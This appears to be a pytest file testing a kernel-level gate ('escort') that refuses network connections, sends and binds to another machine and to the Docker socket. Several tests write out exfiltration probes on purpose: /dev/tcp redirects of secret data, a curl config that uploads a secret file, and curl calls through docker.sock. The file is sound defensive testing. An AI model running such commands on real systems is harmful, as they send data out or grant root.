"""Connections and listeners end to end: a session's connect, sendto,
sendmsg and bind are stopped by the kernel and judged by the address they
name. "Another machine" is a real one as far as the kernel knows: a network
namespace behind a veth pair, with listeners that write down everything that
reaches them. No escort is reachable, so what an escort would have to approve
(medium) is refused."""
import os
import shutil
import socket
import subprocess
import time

import pytest
from conftest import events
from test_gate import Session, effects, python_calls, site_rules

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None,
    reason="another host is a network namespace: needs root and iproute2")

LISTENER = r"""
import socket, sys, threading
out, host = sys.argv[1], sys.argv[2]
tcp_ports = [int(p) for p in sys.argv[3].split(",")]
udp_ports = [int(p) for p in sys.argv[4].split(",")]
lock = threading.Lock()
def log(line):
    with lock, open(out, "a") as f:
        f.write(line + "\n")
def tcp(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen()
    while True:
        c, _ = s.accept()
        log(f"tcp {port} connection")
        c.settimeout(2)
        try:
            log(f"tcp {port} data {c.recv(65536)!r}")
        except OSError:
            pass
        c.close()
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((host, port))
    while True:
        data, _ = s.recvfrom(65536)
        log(f"udp {port} {data!r}")
for port in tcp_ports:
    threading.Thread(target=tcp, args=(port,), daemon=True).start()
for port in udp_ports:
    threading.Thread(target=udp, args=(port,), daemon=True).start()
log("ready")
threading.Event().wait()
"""

TCP_PORT, UDP_PORT, DNS_PORT = 8123, 9999, 53
LOCAL_PORT = 20000 + os.getpid() % 20000  # on this machine's loopback: not another test's


class Listener:
    """Listeners on host:ports, started with prefix (e.g. ip netns exec NS)."""

    def __init__(self, tmp_path, name, host, prefix=(), tcp_port=TCP_PORT):
        self.log = tmp_path / f"{name}.log"
        script = tmp_path / f"{name}.py"
        script.write_text(LISTENER)
        self.proc = subprocess.Popen([*prefix, "/usr/bin/python3", str(script), str(self.log), host,
                                      str(tcp_port), f"{UDP_PORT},{DNS_PORT}"])
        deadline = time.time() + 10
        while "ready" not in self.text():
            assert time.time() < deadline and self.proc.poll() is None, "the listener did not start"
            time.sleep(0.05)

    def text(self):
        return self.log.read_text() if self.log.exists() else ""

    def got(self):
        """What reached the listener, once anything in flight has arrived."""
        time.sleep(0.5)
        return [line for line in self.text().splitlines() if line != "ready"]

    def stop(self):
        self.proc.kill()
        self.proc.wait()


@pytest.fixture
def other_host(tmp_path):
    """Another machine, 10.231.N.2, reachable from this one (10.231.N.1)
    through a veth pair, listening on TCP 8123 and UDP 9999 and 53."""
    n = os.getpid() % 200 + 20
    ns, here, there = f"escort-net-{os.getpid()}", f"escn{os.getpid()}", f"escp{os.getpid()}"
    address = f"10.231.{n}.2"

    def ip(*args):
        subprocess.run(["ip", *args], check=True, capture_output=True)

    ip("netns", "add", ns)
    listener = None
    try:
        ip("link", "add", here, "type", "veth", "peer", "name", there)
        ip("link", "set", there, "netns", ns)
        ip("addr", "add", f"10.231.{n}.1/24", "dev", here)
        ip("link", "set", here, "up")
        ip("-n", ns, "addr", "add", f"{address}/24", "dev", there)
        ip("-n", ns, "link", "set", there, "up")
        ip("-n", ns, "link", "set", "lo", "up")
        listener = Listener(tmp_path, "other-host", address, ["ip", "netns", "exec", ns])
        listener.address = address
        yield listener
    finally:
        if listener:
            listener.stop()
        subprocess.run(["ip", "link", "del", here], capture_output=True)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)


@pytest.fixture
def unix_listener():
    """A listening Unix socket at a path the test names, removed afterwards;
    returns how many connections it accepted."""
    made = []

    def make(path):
        if os.path.lexists(path):
            pytest.skip(f"{path} exists on this machine: not replaced by a test")
        directory = os.path.dirname(path)
        if not os.path.isdir(directory):
            os.makedirs(directory)
            made.append(("dir", directory))
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(path)
        s.listen()
        s.setblocking(False)
        made.append(("sock", path, s))
        return s

    yield make
    for item in reversed(made):
        if item[0] == "sock":
            item[2].close()
            os.unlink(item[1])
        else:
            os.rmdir(item[1])


def accepted(sock):
    time.sleep(0.3)
    try:
        sock.accept()[0].close()
        return True
    except BlockingIOError:
        return False


def test_dev_tcp_to_another_host_is_refused_and_nothing_arrives(escort, tmp_path, other_host):
    s = Session(escort, tmp_path)
    out, status = s.run(f"echo secret-data > /dev/tcp/{other_host.address}/{TCP_PORT}")
    assert status != 0
    assert (f"escort: refused: connect to {other_host.address} port {TCP_PORT} -- Opens a "
            "connection to another machine") in out
    assert "data can be sent out" in out
    out, status = s.run(f"exec 3<>/dev/udp/{other_host.address}/{UDP_PORT} && echo udp-data >&3")
    # The same process's same call was shown already (gate.c tells the
    # operator once per process and call); it is refused and recorded anew.
    assert status != 0 and "Operation not permitted" in out
    evs = s.close()
    assert other_host.got() == []
    first, second = effects(evs, "connect")
    # Decided like a change to files: by the policy (here standalone: it
    # needs an escort and none is reachable).
    assert first["action"] == "deny" and first["by"] == "standalone policy"
    assert first["level"] == "medium" and first["change"] == "connect"
    assert first["family"] == "inet" and first["address"] == other_host.address
    assert first["port"] == str(TCP_PORT) and first["attack"] == "T1048"
    assert first["call"] == f"connect to {other_host.address} port {TCP_PORT}"
    assert second["port"] == str(UDP_PORT)


def test_curl_whose_exec_is_allowed_cannot_send_a_file_out(escort, tmp_path, other_host):
    # The upload is in a config file: the exec looks like everyday curl
    # (rated low), only the connection shows where the data would go.
    secret = tmp_path / "secret.txt"
    secret.write_text("customer-data\n")
    config = tmp_path / "curl.cfg"
    config.write_text(f'data = "@{secret}"\n')
    s = Session(escort, tmp_path)
    out, status = s.run(f"curl -s -K {config} http://{other_host.address}:{TCP_PORT}/")
    assert status != 0
    assert f"escort: refused: connect to {other_host.address} port {TCP_PORT}" in out
    evs = s.close()
    assert other_host.got() == []
    (rec,) = effects(evs, "connect")
    assert rec["action"] == "deny" and rec["address"] == other_host.address
    (curl,) = [e for e in evs if e["type"] == "exec" and e.get("program") == "curl"
               and e.get("phase") == "request"]
    assert curl["level"] == "low"


def test_udp_sendto_and_sendmsg_to_another_host_are_refused(escort, tmp_path, other_host):
    s = Session(escort, tmp_path, rules=site_rules(tmp_path))
    out, _ = s.run(python_calls(tmp_path, "udp.py", f"""
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name, send in (("sendto", lambda: u.sendto(b"by-sendto", ("{other_host.address}", {UDP_PORT}))),
                   ("sendmsg", lambda: u.sendmsg([b"by-sendmsg"], [], 0,
                                                 ("{other_host.address}", {UDP_PORT}))),
                   ("dns", lambda: u.sendto(b"dns-query", ("{other_host.address}", {DNS_PORT})))):
    try:
        send()
        print(name, "sent")
    except OSError as e:
        print(name, "failed", e.strerror)
"""))
    assert "sendto failed Operation not permitted" in out
    assert "sendmsg failed Operation not permitted" in out
    assert "dns sent" in out  # DNS is everyday work: allowed to any host
    assert f"escort: refused: sendto to {other_host.address} port {UDP_PORT} -- Sends data to " \
           "another machine" in out
    evs = s.close()
    assert other_host.got() == [f"udp {DNS_PORT} b'dns-query'"]
    (to,) = effects(evs, "sendto")
    (msg,) = effects(evs, "sendmsg")
    for rec in (to, msg):
        assert rec["action"] == "deny" and rec["port"] == str(UDP_PORT)
        assert rec["address"] == other_host.address and rec["level"] == "medium"


def test_loopback_and_name_lookups_are_allowed_and_not_recorded(escort, tmp_path, other_host):
    here = Listener(tmp_path, "loopback", "127.0.0.1", tcp_port=LOCAL_PORT)
    try:
        s = Session(escort, tmp_path)
        out, status = s.run(f"echo local-data > /dev/tcp/127.0.0.1/{LOCAL_PORT} && "
                            "getent hosts localhost")
        assert status == 0 and "escort:" not in out and "localhost" in out
        out, status = s.run(f"echo remote-data > /dev/tcp/{other_host.address}/{TCP_PORT}")
        assert status != 0 and "escort: refused" in out
        evs = s.close()
        assert f"tcp {LOCAL_PORT} data b'local-data\\n'" in here.got()
        assert other_host.got() == []
        assert [r["address"] for r in effects(evs, "connect")] == [other_host.address]
    finally:
        here.stop()


def test_sockets_that_grant_root_are_refused(escort, tmp_path, unix_listener):
    docker = unix_listener("/run/docker.sock")
    own = unix_listener(f"/run/escort/test-{os.getpid()}.sock")
    os.symlink("/run/docker.sock", tmp_path / "innocent.sock")
    s = Session(escort, tmp_path)
    out, status = s.run("curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json")
    assert status != 0
    assert "escort: refused: connect to the local socket /run/docker.sock -- Talks to Docker" in out
    assert "the same as being the machine's administrator (root)" in out
    out, status = s.run(f"cd {tmp_path} && curl -s --unix-socket innocent.sock http://x/")
    assert status != 0 and "escort: refused" in out
    out, status = s.run(f"curl -s --unix-socket /run/escort/test-{os.getpid()}.sock http://x/")
    assert status != 0 and "Talks to escortd" in out
    evs = s.close()
    assert not accepted(docker) and not accepted(own)
    recs = effects(evs, "connect")
    assert len(recs) == 3 and {r["level"] for r in recs} == {"high"}
    assert [r["family"] for r in recs] == ["unix"] * 3
    assert recs[0]["destination"] == "the local socket /var/run/docker.sock"
    assert recs[0]["call"] == "connect to the local socket /run/docker.sock"
    assert recs[1]["call"] == (f"connect to the local socket {tmp_path}/innocent.sock "
                               "(which is /run/docker.sock)")


def test_other_local_sockets_are_allowed(escort, tmp_path, unix_listener):
    everyday = unix_listener(str(tmp_path / "app.sock"))
    docker = unix_listener("/run/docker.sock")
    s = Session(escort, tmp_path)
    out, status = s.run(f"curl -s -m 1 --unix-socket {tmp_path}/app.sock http://x/; "
                        "curl -s --unix-socket /run/docker.sock http://x/")
    assert "escort: refused: connect to the local socket /run/docker.sock" in out
    s.close()
    assert accepted(everyday) and not accepted(docker)


def test_listeners_for_other_machines_and_raw_sockets_are_refused(escort, tmp_path, other_host):
    s = Session(escort, tmp_path, rules=site_rules(tmp_path))
    out, _ = s.run(python_calls(tmp_path, "listen.py", f"""
import socket
def attempt(name, family, kind, address=None, proto=0):
    try:
        x = socket.socket(family, kind, proto)
        if address is not None:
            # an earlier test's listener on the port may be in TIME_WAIT
            x.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            x.bind(address)
        if kind == socket.SOCK_STREAM and address is not None:
            x.listen()
        print(name, "ok")
        return x
    except OSError as e:
        print(name, "failed", e.strerror)
kept = attempt("everywhere", socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", {TCP_PORT}))
attempt("any-port", socket.AF_INET6, socket.SOCK_STREAM, ("::", 0))
attempt("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {LOCAL_PORT}))
attempt("udp-client", socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))
attempt("packet", socket.AF_PACKET, socket.SOCK_RAW)
attempt("raw-tcp", socket.AF_INET, socket.SOCK_RAW, None, socket.IPPROTO_TCP)
attempt("ping", socket.AF_INET, socket.SOCK_RAW, None, socket.IPPROTO_ICMP)
"""))
    for name in ("everywhere", "any-port", "packet", "raw-tcp"):
        assert f"{name} failed Operation not permitted" in out
    for name in ("loopback", "udp-client", "ping"):
        assert f"{name} ok" in out
    assert (f"escort: refused: bind on 0.0.0.0 port {TCP_PORT} -- Starts listening for "
            f"connections from other machines on port {TCP_PORT}") in out
    assert "captures or forges the machine's network traffic" in out
    evs = s.close()
    binds = effects(evs, "bind")
    assert [(b["address"], b["port"]) for b in binds] == [("0.0.0.0", str(TCP_PORT)), ("::", "0")]
    assert {b["level"] for b in binds} == {"medium"}
    sockets = effects(evs, "socket")
    assert len(sockets) == 2 and {r["level"] for r in sockets} == {"high"}
    assert {r["attack"] for r in sockets} == {"T1040"}


DATAGRAMS = r"""
import os, socket, sys
port = int(sys.argv[1])
r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", port))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
to = ("127.0.0.1", port)
print("sendto", s.sendto(b"one", to))
print("sendmsg", s.sendmsg([b"two-", b"parts"], [], 0, to))
tos = [(socket.IPPROTO_IP, socket.IP_TOS, bytes([0x10, 0, 0, 0]))]
print("sendmsg-tos", s.sendmsg([b"three"], tos, 0, to))
s.setblocking(False)
print("nonblocking", s.sendto(b"four", to))
print("got", sorted(r.recv(100) for _ in range(4)))
if os.geteuid() == 0:
    os.setgroups([]); os.setgid(65534); os.setuid(65534)
    mark = [(socket.SOL_SOCKET, socket.SO_MARK, (7).to_bytes(4, "little"))]
    try:
        s.sendmsg([b"five"], mark, 0, to)
        print("mark sent")
    except PermissionError:
        print("mark refused as for nobody")
"""


def test_datagrams_the_gate_sends_arrive_whole(escort, tmp_path):
    """sendto and sendmsg to an allowed address are made by the gate
    (net-send.c, net-sendmsg.c): several parts, IP-level control data and a
    non-blocking socket arrive as sent; a control message that needs rights
    the caller lacks (SO_MARK after becoming nobody) is left to the kernel,
    which the gate now refuses with EPERM, as the kernel would."""
    script = tmp_path / "datagrams.py"
    script.write_text(DATAGRAMS)
    s = Session(escort, tmp_path)
    out, status = s.run(f"/usr/bin/python3 {script} {LOCAL_PORT + 7}")
    s.close()
    assert status == 0 and "escort:" not in out, out
    assert "sendto 3" in out and "sendmsg 9" in out and "sendmsg-tos 5" in out, out
    assert "got [b'four', b'one', b'three', b'two-parts']" in out, out
    assert "mark refused as for nobody" in out, out


STREAMS = r"""
import ctypes, hashlib, os, signal, socket, struct, sys, threading
lst = socket.socket(); lst.bind(("127.0.0.1", 0)); lst.listen(4)
got = []
def reader():
    c, _ = lst.accept()
    h, n = hashlib.sha256(), 0
    while (b := c.recv(1 << 20)):
        h.update(b); n += len(b)
    got.append((n, h.hexdigest()))
th = threading.Thread(target=reader); th.start()
s = socket.create_connection(lst.getsockname())
data = os.urandom(3 << 20)
want = hashlib.sha256()
sent = 0
while sent < len(data):  # sendmsg on TCP, in three parts, short counts taken up
    part = data[sent:sent + (1 << 20)]
    n = s.sendmsg([part[:1000], part[1000:500000], part[500000:]])
    want.update(part[:n]); sent += n
libc = ctypes.CDLL(None, use_errno=True)
to = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(lst.getsockname()[1]),
                 socket.inet_aton("127.0.0.1"))
tail = os.urandom(200000)
n = libc.sendto(s.fileno(), tail, len(tail), 0, to, 16)  # an address on TCP: ignored
want.update(tail[:n])
s.close(); th.join()
print("stream", got[0][0] == sent + n and got[0][1] == want.hexdigest(), sent + n)
# A send on a stream the other side closed: EPIPE, and SIGPIPE without MSG_NOSIGNAL.
piped = []
signal.signal(signal.SIGPIPE, lambda *a: piped.append(1))
c = socket.create_connection(lst.getsockname()); d, _ = lst.accept(); d.close()
errors = set()
for _ in range(50):
    try:
        c.sendmsg([b"x" * 1000])
    except (BrokenPipeError, ConnectionResetError) as e:
        errors.add(type(e).__name__)
        if isinstance(e, BrokenPipeError):
            break
print("pipe", sorted(errors), "signalled", bool(piped))
# sendmmsg: three datagrams, each msg_len written back.
r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", 0))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dest = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(r.getsockname()[1]),
                   socket.inet_aton("127.0.0.1"))
bufs = [ctypes.create_string_buffer(x) for x in (b"a", b"bb", b"ccc")]
name = ctypes.create_string_buffer(dest)
iovs = [ (ctypes.c_uint64 * 2)(ctypes.addressof(b), len(b.raw) - 1) for b in bufs]
vec = ctypes.create_string_buffer(64 * 3)
for i, iov in enumerate(iovs):
    struct.pack_into("<QI4xQQQQi4xI4x", vec, 64 * i, ctypes.addressof(name), 16,
                     ctypes.addressof(iov), 1, 0, 0, 0, 0)
print("sendmmsg", libc.sendmmsg(u.fileno(), vec, 3, 0),
      [struct.unpack_from("<I", vec, 64 * i + 56)[0] for i in range(3)],
      sorted(r.recv(10) for _ in range(3)))
"""


def test_stream_sends_the_gate_makes_arrive_whole(escort, tmp_path):
    """Every send on an IP socket is the gate's, a stream socket's too
    (net-stream.c): 3 MiB sent with sendmsg in parts and an address given
    to sendto on a connected TCP socket arrive whole and in order (a short
    count is a count); a send on a closed stream fails with EPIPE and
    raises SIGPIPE as the kernel would; sendmmsg (net-sendmmsg.c) sends
    every message and writes each one's length back."""
    script = tmp_path / "streams.py"
    script.write_text(STREAMS)
    s = Session(escort, tmp_path)
    out, status = s.run(f"/usr/bin/python3 {script}")
    s.close()
    assert status == 0 and "escort:" not in out, out
    assert "stream True" in out, out
    assert "BrokenPipeError" in out and "signalled True" in out, out
    assert "sendmmsg 3 [1, 2, 3] [b'a', b'bb', b'ccc']" in out, out


UNIX_CONNECTS = r"""
import os, socket, struct, sys
os.chdir(sys.argv[1])
def peer(conn):
    pid, uid, gid = struct.unpack("3i", conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    return uid == os.geteuid() and gid == os.getegid()
srv = socket.socket(socket.AF_UNIX); srv.bind("srv.sock"); srv.listen()
c = socket.socket(socket.AF_UNIX); c.connect("srv.sock")
print("relative", peer(srv.accept()[0]))
os.symlink("srv.sock", "link.sock")
c = socket.socket(socket.AF_UNIX); c.connect(os.path.abspath("link.sock"))
print("link", c.getpeername() == "srv.sock", peer(srv.accept()[0]))
d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); d.bind("dg.sock")
c = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); c.connect("dg.sock"); c.send(b"hi")
print("datagram", d.recv(10))
a = socket.socket(socket.AF_UNIX); a.bind(f"\0escort-test-{os.getpid()}"); a.listen()
c = socket.socket(socket.AF_UNIX); c.connect(f"\0escort-test-{os.getpid()}")
print("abstract", peer(a.accept()[0]))
open("plain", "w").close()
for name in ("missing.sock", "plain"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print(name, "connected")
    except OSError as e:
        print(name, type(e).__name__)
import threading
q = socket.socket(socket.AF_UNIX); q.bind("queue.sock"); q.listen(0)
first = socket.socket(socket.AF_UNIX); first.connect("queue.sock")  # the queue is full
threading.Timer(0.5, lambda: [q.accept(), q.accept()]).start()
second = socket.socket(socket.AF_UNIX); second.connect("queue.sock")  # waits for the accept
print("queued", second.getpeername())
"""


def test_unix_connects_the_gate_makes_behave_as_the_kernels(escort, tmp_path):
    """A Unix socket's connect is made by the gate (net-unix.c) on the file
    it resolved in the caller's working directory, with the caller's rights:
    a relative path, a symbolic link, a datagram socket and an abstract name
    connect, the listener sees the caller's user and group (SO_PEERCRED), a
    missing file is ENOENT and a file that is not a socket ECONNREFUSED, and
    a blocking connect to a listener whose queue is full waits for room."""
    work = tmp_path / "unix"
    work.mkdir()
    script = tmp_path / "unix.py"
    script.write_text(UNIX_CONNECTS)
    s = Session(escort, tmp_path)
    out, status = s.run(f"/usr/bin/python3 {script} {work}")
    s.close()
    assert status == 0 and "escort:" not in out, out
    assert "relative True" in out and "link True True" in out, out
    assert "datagram b'hi'" in out and "abstract True" in out, out
    assert "missing.sock FileNotFoundError" in out and "plain ConnectionRefusedError" in out, out
    assert "queued queue.sock" in out, out
